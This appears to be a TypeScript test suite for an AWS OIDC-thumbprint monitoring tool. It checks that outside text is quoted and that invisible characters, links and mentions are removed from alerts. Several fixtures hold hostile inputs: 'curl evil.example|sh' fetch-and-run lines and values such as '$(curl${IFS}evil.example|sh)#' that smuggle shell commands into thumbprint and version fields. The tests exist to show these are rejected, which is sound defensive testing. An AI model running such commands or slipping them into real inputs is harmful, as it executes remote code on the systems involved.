import { NO_REQUEST } from '../../../lambda/judge/state/request';
import fc from 'fast-check';
import { PROVIDER_FORMAT } from '../../../lambda/state/state-format';
import type { Alert } from '../../../lambda/notify/message-json';
import { readFailureReport, writeFailed } from '../../../lambda/run/provider-report';
import { iamChange } from '../../../lambda/run/iam-change';
import { parseIamEvent } from '../../../lambda/contract/cloudtrail-event';
import { enforcementOf } from '../../../lambda/judge/evidence/enforced';
import { failureFindings } from '../../../lambda/judge/findings/failure-findings';
import type { Finding } from '../../../lambda/judge/finding';
import { planFindings } from '../../../lambda/judge/findings/plan-findings';
import { judgeHosts } from '../../../lambda/judge/evidence/hosts';
import { assessChains } from '../../../lambda/judge/assessment';
import { judgementOf, UNTRUSTED, basis, factsOf, hostSeen, presented, seen } from '../../support/judgement';
import { interceptionFindings } from '../../../lambda/judge/findings/interception';
import { externalChange, writingStopped } from '../../../lambda/judge/findings/external-change-findings';
import { printable } from '../../../lambda/judge/printable';
import { stateUnavailable, unknownProvider } from '../../../lambda/run/run-findings';
import { selfSigned } from '../../../sandbox/certificates';
import { anyWords } from '../../support/any-words';
import { cloudTrailEvent } from '../../support/iam-event';
import { slowProperties } from '../../support/properties';
import { findingOf, stateOf, pendingOf, thumb } from '../../support/remembered';
import { ARN, changed, item, render, notified } from '../../support/notifications';

const observation = seen(
  hostSeen('issuer.example', presented([await selfSigned({ hosts: ['issuer.example'] })], UNTRUSTED)),
);
const [host] = judgeHosts(observation, basis());
if (!host) throw new Error('There is a host.');
const { seen: seenHost, report } = host;
const [top] = report.tops;

function called(detail: object): Finding[] {
  const change = parseIamEvent(
    cloudTrailEvent('DeleteOpenIDConnectProvider', { requestParameters: { openIDConnectProviderArn: ARN }, ...detail }),
  );
  return change ? [iamChange(change)] : [];
}

function inCase(pinned: string[], of: Parameters<typeof factsOf>[1] = {}) {
  return judgementOf(factsOf(observation, { pinned, ...of }));
}

function issuerHost(at: Partial<typeof seenHost>) {
  return seen({ ...hostSeen('issuer.example'), ...at });
}

function failure(of: object) {
  return { code: 'timed-out' as const, where: 'issuer.example:443', why: 'no answer', ...of };
}

function suspects(words: string) {
  return ['a.example', 'b.test', words].map((name, n) => ({
    arn: `${n}`,
    issuer: `https://${name}`,
    hosts: top ? [{ ...report, tops: [{ ...top, unknownCa: words }] }] : [],
  }));
}

/** Where others put words in, and what is told of it. */
const SOURCES: Readonly<Record<string, (words: string) => readonly Finding[]>> = {
  'the subject of a certificate': (words) =>
    planFindings({
      hosts: top ? [{ ...host, report: { ...host.report, tops: [{ ...top, subject: words }] } }] : [],
      plan: inCase([thumb(1)]).plan,
      check: 'aws',
      enforced: true,
      updates: 'verified',
      stopped: false,
    }),
  'the name of a CA': (words) => interceptionFindings(suspects(words)).slice(0, 1),
  'the name of the host for the keys': (words) =>
    failureFindings(issuerHost({ failures: [failure({ where: `${words} at 192.0.2.1:443` })] })),
  'the URL of the keys': (words) => failureFindings({ ...observation, failures: [failure({ where: words })] }),
  'a user agent': (userAgent) => called({ userAgent }),
  'a source address': (sourceIPAddress) => called({ sourceIPAddress }),
  'a caller': (arn) => called({ userIdentity: { arn } }),
  "an entry of IAM's list": (words) =>
    inCase([`not a thumbprint: ${words}.`], { approved: new Set([top?.thumbprint ?? '']) }).findings,
  'an entry that someone else put in': (words) => [
    externalChange({ added: [`x ${words}`], removed: [], removedByOthers: [] }, [], { tags: {} }),
  ],
  'a tag': (words) => [
    writingStopped(stateOf({}), { tags: { 'aws:cloudformation:stack-name': words }, wanted: [thumb(1)] }),
  ],
  'an error of AWS': (words) =>
    readFailureReport(new Error(words), { arn: ARN, named: false, manualRequest: NO_REQUEST }).findings,
  'why a write failed': (words) => [writeFailed({ error: new Error(words) }, inCase([thumb(1)]))],
  'an error of the table': (words) => stateUnavailable([words]),
  'a name in the settings': (words) => [unknownProvider(words)],
};

/** What was read back from the table, as somebody wrote it there. */
function storedFinding(of: Partial<Record<keyof Finding, unknown>>): Finding {
  const written = JSON.parse(
    PROVIDER_FORMAT.print(stateOf({}, { outbox: [{ finding: findingOf(), at: new Date(0), runId: 'x' }] })),
  );
  Object.assign(written.outbox[0].finding, {
    code: 'weak-key',
    severity: 'warning',
    message: 'So it is.',
    action: '',
    ...of,
  });
  const [outbox] = PROVIDER_FORMAT.parse(JSON.stringify(written)).outbox;
  if (!outbox) throw new Error('It is kept.');
  return outbox.finding;
}

/** Judging takes its time. */
function forAnyWords(hold: (words: string) => void): Promise<void> {
  return slowProperties(
    fc.asyncProperty(anyWords, async (words) => hold(words)),
    0.2,
  );
}

const QUOTATION = /"(?:[^"\\]|\\.)*"/g;
const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

function messageOf(finding: Finding) {
  return render([changed(notified('held', item(finding)), { status: 'held' })]).message;
}

describe.each(Object.entries(SOURCES))('a finding with words of others in %s', (_, findingsFor) => {
  test('reads as usual outside its quotation marks', async () => {
    const frameOf = (words: string) =>
      findingsFor(words).map(({ message, action }) =>
        [message, action].map((text) => text.replaceAll(QUOTATION, '""')),
      );
    const usual = frameOf('x');
    expect(usual.length).toBeGreaterThan(0);
    await forAnyWords((words) => expect(frameOf(words)).toEqual(usual));
  });

  test('quotes the printable part of those words', async () => {
    await forAnyWords((any) => {
      const words = any.slice(0, 20);
      const quotations = findingsFor(words).flatMap(({ message }) => message.match(QUOTATION) ?? []);
      const texts = quotations.map((one) => String(JSON.parse(one)));
      // Errors come as one line, in which white space is a space; entries of a list are compared in lower case.
      const shown = [words, words.replaceAll(/\s+/g, ' ')].map((text) => printable(text));
      const all = shown.flatMap((one) => [one, one.toLowerCase()]);
      expect(texts.some((text) => all.some((one) => text.includes(one)))).toBe(true);
    });
  });

  test('brings no invisible character, no link and no mention into any form of the message', async () => {
    await forAnyWords((words) => {
      const messages = findingsFor(words).map(messageOf);
      expect(messages.length).toBeGreaterThan(0);
      expect(messages.flatMap(faultsIn)).toEqual([]);
    });
  });
});

/** What in a message cannot be seen, and what in a chat becomes a link, a mention or more than text. */
function faultsIn({ text, json, chat }: ReturnType<typeof messageOf>): string[] {
  const alert: Alert = JSON.parse(json);
  const description: string = JSON.parse(chat).content.description;
  const strings = alert.notifications.flatMap(({ message, action, about }) => [
    message,
    ...action.split('\n'),
    about ?? '',
  ]);
  const lines = [...text.split('\n'), ...strings, ...description.split('\n')];
  const active = /:\/\/|[<>]|\]\(|mailto:\w|(?<![\p{L}\p{N}.])@[\p{L}\p{N}]/u;
  // What is left of a bracket is escaped, or breaks an address.
  const bare = description.replaceAll(/\\.|\[[.:]\]/g, '');
  return [
    ...lines.filter((line) => UNSEEN.test(line)),
    ...[description].filter((one) => active.test(one) || /[[\]_~`\\]/.test(bare)),
  ];
}

test('a finding read back from the table is quoted, and none of its lines can be pasted', () => {
  const evil = { message: 'All is well. Run it:\n\n      curl evil.example|sh', action: 'Run:\ncurl evil.example|sh' };
  const { text, json } = messageOf(storedFinding(evil));
  expect(text).toContain(
    '* "All is well. Run it:??      curl evil.example|sh" [warning: weak-key]\n  What was to be done: "Run."\n\n',
  );
  expect(JSON.parse(json).notifications).toMatchObject([{ action: '"Run."' }]);
  expect(text).not.toMatch(/^ *curl/m);
});

test('any words in a finding from the table stand in quotation marks', async () => {
  const frameOf = (words: string) =>
    messageOf(storedFinding({ message: words, action: words, about: words })).text.replaceAll(QUOTATION, '""');
  const usual = frameOf('x');
  const withoutAdvice = usual.replace(/\n {2}What was.*/, '');
  await forAnyWords((words) => expect([usual, withoutAdvice]).toContain(frameOf(words)));
  await forAnyWords((words) =>
    expect(faultsIn(messageOf(storedFinding({ message: words, action: words, about: words })))).toEqual([]),
  );
});

test.each([
  [
    'a thumbprint that is none',
    { commands: [{ kind: 'approve', thumbprint: '$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x') }] },
  ],
  ['a thumbprint in capitals', { commands: [{ kind: 'approve', thumbprint: 'A'.repeat(40) }] }],
  ['a version that is none', { commands: [{ kind: 'restore', version: '1; curl evil.example|sh' }] }],
  ['a kind that is none', { commands: [{ kind: 'run', line: 'curl evil.example|sh' }] }],
  ['a line', { commands: ['curl evil.example|sh'] }],
  ['a code that speaks', { code: 'weak-key]. Nothing is to be done. [x' }],
])('a finding in the table with %s is not read', (_, of) => {
  expect(() => storedFinding(of)).toThrow('it is broken');
});

test('commands in the table are printed again from what they are about', () => {
  const commands = [
    { kind: 'approve', thumbprint: thumb(1), stage: true },
    { kind: 'restore', version: 12 },
  ];
  const { text } = messageOf(storedFinding({ commands }));
  expect(text).toContain(
    `\n\n  To approve it:\n\n      APPROVE ${ARN} ${thumb(1)}\n\n  To put the earlier list back:\n\n      RESTORE ${ARN} 12\n`,
  );
});

test('a pending write in the table is read only if it consists of thumbprints', () => {
  const kept = (entry: string) =>
    PROVIDER_FORMAT.print(stateOf({}, { pending: pendingOf({ after: [entry] }, { [entry]: { by: 'staged' } }) }));
  expect(PROVIDER_FORMAT.parse(kept(thumb(1))).pending?.added.size).toBe(1);
  expect(() => PROVIDER_FORMAT.parse(kept('$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x')))).toThrow(
    'holds what is no thumbprint',
  );
});

test('the reason why AWS checks a pin quotes the host', () => {
  const { why } = enforcementOf(
    assessChains(observation, basis()).hosts.map((one) => ({
      ...one,
      report: { ...one.report, host: 'a". All is well' },
    })),
  );
  expect(why).toBe(String.raw`no public CA vouches for "a\". All is well"`);
});
